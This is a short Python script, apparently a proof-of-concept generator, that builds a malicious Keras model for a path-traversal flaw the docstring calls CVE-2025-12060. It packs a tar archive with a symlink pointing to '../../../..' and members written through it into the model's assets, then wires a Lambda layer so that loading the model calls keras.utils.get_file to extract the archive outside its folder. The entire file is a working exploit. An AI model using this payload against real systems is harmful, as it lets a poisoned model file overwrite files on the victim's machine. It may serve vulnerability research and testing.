"""The configuration has `keras.utils.get_file` unpack an archive whose members leave the folder, through a link that
points upwards (CVE-2025-12060). The archive travels in the assets of the model.
"""

import io
import tarfile


def write(draft):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        link = tarfile.TarInfo("up")
        link.type, link.linkname = tarfile.SYMTYPE, "../../../.."
        tar.addfile(link)
        for name in ("up/out/functions.json", "../../../out/built.keras"):
            member = tarfile.TarInfo(name)
            member.size = 2
            tar.addfile(member, io.BytesIO(b"{}"))
    function = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
    arguments = {"origin": "file:///in/built.keras", "extract": True, "archive_format": "tar", "cache_dir": "/out"}
    gadget = draft.layer("Lambda", name="lambda", function=function, arguments=arguments)
    draft.model(draft.archive(draft.sequential(gadget), extra={"assets/x.tar": buffer.getvalue()}))
